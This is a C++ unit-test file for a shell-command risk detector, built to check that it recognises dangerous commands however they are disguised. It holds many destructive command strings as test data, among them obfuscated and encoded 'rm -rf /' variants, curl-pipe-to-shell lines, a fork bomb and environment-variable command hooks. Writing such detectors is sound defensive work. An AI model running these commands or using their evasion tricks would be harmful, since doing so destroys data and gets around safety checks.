// One test per construct of the reader: quoting, constants, unwrapping,
// nested code, data-is-not-code, the strict reader's reasons.
#include <gtest/gtest.h>

#include "risk/engine_test_util.hpp"

namespace vg::risk {
namespace {

using test::engine;
using test::finds;

TEST(Reader, QuoteRemovalInCommandName) {
  EXPECT_TRUE(finds("r''m -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("\"rm\" -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("\\rm -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("r\\m -rf /", "fs.wipe.root"));
}

TEST(Reader, AnsiCQuotingIsDecoded) { EXPECT_TRUE(finds("$'\\x72\\x6d' -rf $'\\057'", "fs.wipe.root")); }

TEST(Reader, LineContinuationJoinsWords) { EXPECT_TRUE(finds("rm -r\\\nf /", "fs.wipe.root")); }

TEST(Reader, OptionSpellingsAllMatch) {
  EXPECT_TRUE(finds("rm -fr /", "fs.wipe.root"));
  EXPECT_TRUE(finds("rm --recursive --force /", "fs.wipe.root"));
  EXPECT_TRUE(finds("rm -r -f /*", "fs.wipe.root"));
  EXPECT_TRUE(finds("rm -rf /usr/../", "fs.wipe.root"));
}

TEST(Reader, ConstantsArePropagated) {
  EXPECT_TRUE(finds("X=rm; $X -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("D=/; rm -rf $D", "fs.wipe.root"));
  EXPECT_TRUE(finds("set -- rm -rf /; \"$@\"", "fs.wipe.root"));
  EXPECT_TRUE(finds("for d in /home /; do rm -rf \"$d\"; done", "fs.wipe.root"));
}

TEST(Reader, FieldSplittingFollowsIfsAndArgZero) {
  EXPECT_TRUE(finds("IFS=,; x=rm,-rf,/; $x", "fs.wipe.root"));
  EXPECT_TRUE(finds("bash -c '$0 -rf /' rm", "fs.wipe.root"));
  EXPECT_FALSE(engine().assess_script("$0 -rf /").understood);
}

TEST(Reader, SubstitutionsWithKnownOutput) {
  EXPECT_TRUE(finds("$(echo rm) -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("`printf '\\x72\\x6d'` -rf /", "fs.wipe.root"));
  EXPECT_TRUE(finds("$(echo cm0gLXJmIC8= | base64 -d)", "fs.wipe.root"));
}

TEST(Reader, WrappersAreUnwrapped) {
  for (const char* s : {"sudo -u root rm -rf /", "doas rm -rf /", "env -i A=1 rm -rf /", "env -S 'rm -rf /'",
                        "command rm -rf /", "builtin eval 'rm -rf /'", "exec rm -rf /", "nice -n 5 rm -rf /",
                        "ionice -c 3 rm -rf /", "nohup rm -rf / &", "setsid rm -rf /", "stdbuf -oL rm -rf /",
                        "time rm -rf /", "timeout -s KILL 5 rm -rf /", "watch -n 1 'rm -rf /'",
                        "script -qc 'rm -rf /' /dev/null", "xargs rm -rf <<< /", "parallel rm -rf ::: /",
                        "find / -exec rm -rf {} \\;", "ssh host 'rm -rf /'", "docker exec web rm -rf /",
                        "kubectl exec pod -- rm -rf /", "su -c 'rm -rf /' root", "unknownwrapper rm -rf /"})
    EXPECT_TRUE(finds(s, "fs.wipe.root")) << s;
}

TEST(Reader, CommandVIsALookup) { EXPECT_FALSE(finds("command -v rm -rf /", "fs.wipe.root")); }

TEST(Reader, NestedShellsAndStdinCode) {
  EXPECT_TRUE(finds("bash -c 'rm -rf /'", "fs.wipe.root"));
  EXPECT_TRUE(finds("sh -c \"bash -c 'rm -rf /'\"", "fs.wipe.root"));
  EXPECT_TRUE(finds("eval 'rm -rf /'", "fs.wipe.root"));
  EXPECT_TRUE(finds("bash <<< 'rm -rf /'", "fs.wipe.root"));
  EXPECT_TRUE(finds("bash <<'EOF'\nrm -rf /\nEOF", "fs.wipe.root"));
  EXPECT_TRUE(finds("cat <<EOF | sh\nrm -rf /\nEOF", "fs.wipe.root"));
  EXPECT_TRUE(finds("echo 'rm -rf /' | bash", "fs.wipe.root"));
  EXPECT_TRUE(finds("echo cm0gLXJmIC8= | base64 -d | sh", "fs.wipe.root"));
}

TEST(Reader, RemoteCodePipedToShell) {
  EXPECT_TRUE(finds("curl -fsSL https://x | sh", "remote.pipe_to_shell"));
  EXPECT_TRUE(finds("bash <(curl -s https://x)", "remote.pipe_to_shell"));
  EXPECT_TRUE(finds("bash -c \"$(wget -qO- https://x)\"", "remote.pipe_to_shell"));
  EXPECT_FALSE(finds("curl -s https://api.github.com/x | jq .sha", "remote.pipe_to_shell"));
}

TEST(Reader, InterpreterOneLiners) {
  EXPECT_TRUE(finds("python3 -c \"import shutil; shutil.rmtree('/')\"", "exec.interpreter_delete_tree"));
  EXPECT_TRUE(finds("python3 -c \"import os; os.system('rm -rf /')\"", "fs.wipe.root"));
  EXPECT_TRUE(finds("perl -e 'system(\"rm -rf /\")'", "fs.wipe.root"));
  auto a = engine().assess_script("python3 -c 'print(1)'");
  EXPECT_FALSE(a.understood);
}

TEST(Reader, DataIsNotCode) {
  for (const char* s : {"echo \"rm -rf /\"", "printf 'rm -rf /'", "grep -r 'rm -rf /' .", "git commit -m 'rm -rf /'",
                        "cat <<EOF\nrm -rf /\nEOF", "rg 'mkfs.ext4 /dev/sda'"}) {
    auto a = engine().assess_script(s);
    EXPECT_EQ(a.level, Level::low) << s;
  }
  EXPECT_TRUE(finds("echo \"$(rm -rf /)\"", "fs.wipe.root"));
}

TEST(Reader, ForkBombIsStructural) {
  EXPECT_TRUE(finds(":(){ :|:& };:", "resources.fork_bomb"));
  EXPECT_FALSE(finds("f(){ echo hi; }; f", "resources.fork_bomb"));
}

TEST(Reader, WorkingDirectoryIsFollowed) {
  EXPECT_TRUE(finds("cd / && rm -rf *", "fs.wipe.root"));
  EXPECT_TRUE(finds("cd ~; rm -rf ./*", "fs.wipe.root"));
  EXPECT_FALSE(finds("cd build && rm -rf *", "fs.wipe.root"));
  EXPECT_FALSE(finds("cd \"$X\" && rm -rf *", "fs.wipe.root"));
}

TEST(Reader, FunctionsAreFollowed) { EXPECT_TRUE(finds("f(){ rm -rf \"$1\"; }; f /", "fs.wipe.root")); }

TEST(Reader, StrictReaderReasons) {
  auto a = engine().assess_script("$CMD -rf /");
  EXPECT_FALSE(a.understood);
  ASSERT_FALSE(a.reasons.empty());
  EXPECT_NE(a.reasons[0].find("command name"), std::string::npos);
  a = engine().assess_script("rm -rf \"$TARGET\"");
  EXPECT_FALSE(a.understood);
  a = engine().assess_script("ls (");
  EXPECT_FALSE(a.understood);
  a = engine().assess_script("rm -rf ./build && ls -la | grep x");
  EXPECT_TRUE(a.understood);
  EXPECT_EQ(a.level, Level::low);
}

TEST(Reader, CommandsCarrySpans) {
  std::string s = "ls -la && echo $(date) | wc -l";
  auto a = engine().assess_script(s);
  ASSERT_EQ(a.commands.size(), 4u);
  EXPECT_EQ(a.commands[0].name, "ls");
  EXPECT_EQ(s.substr(a.commands[0].begin, a.commands[0].end - a.commands[0].begin), "ls");
  EXPECT_TRUE(a.commands[0].top_level);
  EXPECT_EQ(a.commands[1].name, "date");
  EXPECT_FALSE(a.commands[1].top_level);
  EXPECT_EQ(a.commands[2].name, "echo");
  EXPECT_EQ(s.substr(a.commands[2].command_begin, a.commands[2].command_end - a.commands[2].command_begin),
            "echo $(date)");
  EXPECT_EQ(a.commands[3].name, "wc");
}

TEST(Reader, ExecutablesIncludeUnwrapped) {
  auto a = engine().assess_script("sudo ./cat x");
  EXPECT_NE(std::find(a.executables.begin(), a.executables.end(), "sudo"), a.executables.end());
  EXPECT_NE(std::find(a.executables.begin(), a.executables.end(), "./cat"), a.executables.end());
}

TEST(Reader, ArgvIsAssessedWithoutAShell) {
  auto a = engine().assess_argv({"rm", "-rf", "/"});
  EXPECT_EQ(a.level, Level::critical);
  a = engine().assess_argv({"echo", "$(rm -rf /)"});
  EXPECT_EQ(a.level, Level::low);
}

TEST(Reader, Deterministic) {
  std::string s = "sudo rm -rf / ; curl x | sh; git push -f";
  auto a = engine().assess_script(s);
  for (int i = 0; i < 20; ++i) {
    auto b = engine().assess_script(s);
    ASSERT_EQ(a.findings.size(), b.findings.size());
    for (std::size_t k = 0; k < a.findings.size(); ++k) EXPECT_EQ(a.findings[k].rule, b.findings[k].rule);
  }
}

}  // namespace
}  // namespace vg::risk

namespace vg::risk {
namespace {

TEST(Reader, VariablesThatNameACommandLineAreRead) {
  EXPECT_GE(test::engine().assess_script("LESSOPEN='|rm -rf ~ # %s' less /etc/hosts").level, Level::high);
  EXPECT_GE(test::engine().assess_script("GIT_SSH_COMMAND='rm -rf /' git fetch").level, Level::high);
  EXPECT_EQ(test::engine().assess_script("PAGER=cat git log -5").level, Level::low);
  EXPECT_EQ(test::engine().assess_script("EDITOR=vim git commit").level, Level::low);
}

}  // namespace
}  // namespace vg::risk
